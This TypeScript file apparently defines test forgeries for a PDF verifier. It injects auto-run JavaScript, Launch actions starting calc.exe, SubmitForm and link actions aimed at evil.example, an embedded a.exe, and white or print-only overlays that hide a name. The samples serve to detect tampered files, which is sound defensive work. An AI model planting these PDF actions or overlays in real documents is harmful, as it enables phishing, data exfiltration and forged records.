import type { PdfParts } from '../editPdf.ts';
import {
  addAnnotation,
  addEntries,
  addForeignFile,
  addOperators,
  addResource,
  addToCatalog,
  addWhiteForm,
  catalog,
  createForgery,
  findPage,
  type Forgery,
  untrusted,
} from './Forgery.ts';

const addToPage = (entries: string) => (parts: PdfParts) =>
  addEntries(parts, findPage(parts, 1), entries);
const createAnnotation = (entries: string) => (parts: PdfParts) => addAnnotation(parts, entries);

/** An action that shows an alert. */
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

const catalogForgeries: readonly Forgery[] = [
  createForgery('a script on opening', addToCatalog(`/OpenAction${script}`), untrusted, 'script'),
  createForgery(
    'a program started on opening',
    addToCatalog('/OpenAction<</S/Launch/F(calc.exe)>>'),
    untrusted,
    'launch',
  ),
  createForgery(
    'a website opened on opening',
    addToCatalog('/OpenAction<</S/URI/URI(https://evil.example/)>>'),
    untrusted,
    'link',
  ),
  createForgery(
    'a form sent on opening',
    addToCatalog('/OpenAction<</S/SubmitForm/F(https://evil.example/)>>'),
    untrusted,
    'action',
  ),
  createForgery(
    'another document opened on opening',
    addToCatalog('/OpenAction<</S/GoToR/F(other.pdf)/D[0/Fit]>>'),
    untrusted,
    'action',
  ),
  createForgery(
    'an attached document opened on opening',
    addToCatalog('/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>'),
    untrusted,
    'action',
  ),
  createForgery(
    'printing on opening',
    addToCatalog('/OpenAction<</S/Named/N/Print>>'),
    untrusted,
    'action',
  ),
  createForgery(
    'a script after a harmless action',
    addToCatalog(`/OpenAction<</S/GoTo/D[0/Fit]/Next[${script}]>>`),
    untrusted,
    'script',
  ),
  createForgery('a script on printing', addToCatalog(`/AA<</WP${script}>>`), untrusted, 'action'),
  createForgery('an XFA form', addToCatalog('/AcroForm<</Fields[]/XFA(x)>>'), untrusted, 'form'),
  createForgery('a layer', addToCatalog('/OCProperties<</OCGs[]/D<<>>>>'), untrusted, 'layer'),
  createForgery('a base address', addToCatalog('/URI<</Base(https://evil.example)>>'), untrusted),
  createForgery('a portfolio', addToCatalog('/Collection<</View/T>>'), untrusted, 'attachment'),
  createForgery('permissions', addToCatalog('/Perms<</DocMDP 1 0 R>>'), untrusted, 'signature'),
  createForgery('an unknown entry', addToCatalog('/Secret(x)'), untrusted, 'unusual'),
  createForgery(
    'a script in the names',
    (parts) =>
      parts.replaceObject(catalog, (object) =>
        object.replace('/Names<<', `/Names<</JavaScript<</Names[(a)${script}]>>`),
      ),
    untrusted,
    'script',
  ),
  createForgery('another attached file', addAttachment, untrusted, 'attachment'),
];

function addAttachment(parts: PdfParts): void {
  const file = addForeignFile(parts);
  parts.replaceObject(catalog, (object) =>
    object.replace(/(\/EmbeddedFiles<<\/Names\[)/, `$1(a.exe) ${file} `),
  );
}

const pageForgeries: readonly Forgery[] = [
  createForgery('a page upside down', addToPage('/Rotate 180'), untrusted, 'turnedPage'),
  createForgery('a page on its side', addToPage('/Rotate 90'), untrusted, 'turnedPage'),
  createForgery('a cropped page', addToPage('/CropBox[0 0 842 300]'), untrusted, 'turnedPage'),
  createForgery('a scaled page', addToPage('/UserUnit 2'), untrusted, 'turnedPage'),
  createForgery('a script on showing a page', addToPage(`/AA<</O${script}>>`), untrusted, 'action'),
  createForgery('a page transition', addToPage('/Trans<</S/Dissolve>>'), untrusted, 'unusual'),
  createForgery('a thumbnail', addToPage('/Thumb 1 0 R'), untrusted, 'unusual'),
  createForgery(
    'a link to elsewhere',
    createAnnotation('/Subtype/Link/A<</S/URI/URI(https://evil.example/)>>'),
    untrusted,
    'link',
  ),
  createForgery(
    'a link with a script',
    createAnnotation(`/Subtype/Link/A${script}`),
    untrusted,
    'script',
  ),
  createForgery(
    'a link with a javascript address',
    createAnnotation('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>'),
    untrusted,
    'link',
  ),
  createForgery(
    'a link that starts a program',
    createAnnotation('/Subtype/Link/A<</S/Launch/F(calc.exe)>>'),
    untrusted,
    'launch',
  ),
  createForgery(
    'a link that hides something',
    createAnnotation('/Subtype/Link/A<</S/Hide/T(a)>>'),
    untrusted,
    'action',
  ),
  createForgery(
    'a link that draws over the name',
    (parts) => addAnnotation(parts, `/Subtype/Link/AP<</N ${addWhiteForm(parts)}>>`),
    untrusted,
    'annotation',
  ),
  createForgery(
    'a text over the name',
    (parts) => addAnnotation(parts, `/Subtype/FreeText/AP<</N ${addWhiteForm(parts)}>>`),
    untrusted,
    'annotation',
  ),
  createForgery(
    'a stamp that only prints',
    (parts) => addAnnotation(parts, `/Subtype/Stamp/F 32/AP<</N ${addWhiteForm(parts)}>>`),
    untrusted,
    'annotation',
  ),
  ...[
    'Text',
    'Square',
    'Ink',
    'Redact',
    'Watermark',
    'Screen',
    'RichMedia',
    '3D',
    'Movie',
    'Sound',
  ].map((subtype) =>
    createForgery(
      `an annotation ${subtype}`,
      createAnnotation(`/Subtype/${subtype}/Contents(Hello)`),
      untrusted,
      'annotation',
    ),
  ),
  createForgery(
    'a form field',
    createAnnotation('/Subtype/Widget/FT/Tx/T(a)/V(b)'),
    untrusted,
    'form',
  ),
  createForgery(
    'an annotation with an attached file',
    createAnnotation('/Subtype/FileAttachment/FS<</F(a.exe)>>'),
    untrusted,
    'annotation',
  ),
  createForgery(
    'a link to elsewhere in place of the QR code',
    (parts) => parts.replace(/\/URI ?\(http[^)]*\)/, '/URI(https://evil.example/print/abc)'),
    untrusted,
    'link',
  ),
];

const layerForgeries: readonly Forgery[] = [
  createForgery(
    'white over the name that only prints',
    (parts) => {
      const layer = parts.addObject('<</Type/OCG/Name(a)/Usage<</Print<</PrintState/ON>>>>>>');
      addToCatalog(`/OCProperties<</OCGs[${layer} 0 R]/D<</OFF[${layer} 0 R]>>>>`)(parts);
      addResource(parts, 'Properties', 'oc', `${layer} 0 R`);
      addOperators(parts, '/OC/oc BDC 1 1 1 rg 170 290 510 60 re f EMC');
    },
    untrusted,
    'layer',
  ),
  createForgery(
    'a form in a layer',
    (parts) => {
      const layer = parts.addObject('<</Type/OCG/Name(a)>>');
      const form = parts.addObject(
        `<</Type/XObject/Subtype/Form/OC ${layer} 0 R/BBox[0 0 9 9]/Length 1>>\nstream\n \nendstream`,
      );
      addResource(parts, 'XObject', 'X', `${form} 0 R`);
      addOperators(parts, 'q /X Do Q');
    },
    untrusted,
    'layer',
  ),
];

/** Files that do or carry something that issued files never do. */
export const conductForgeries: readonly Forgery[] = [
  ...catalogForgeries,
  ...pageForgeries,
  ...layerForgeries,
];
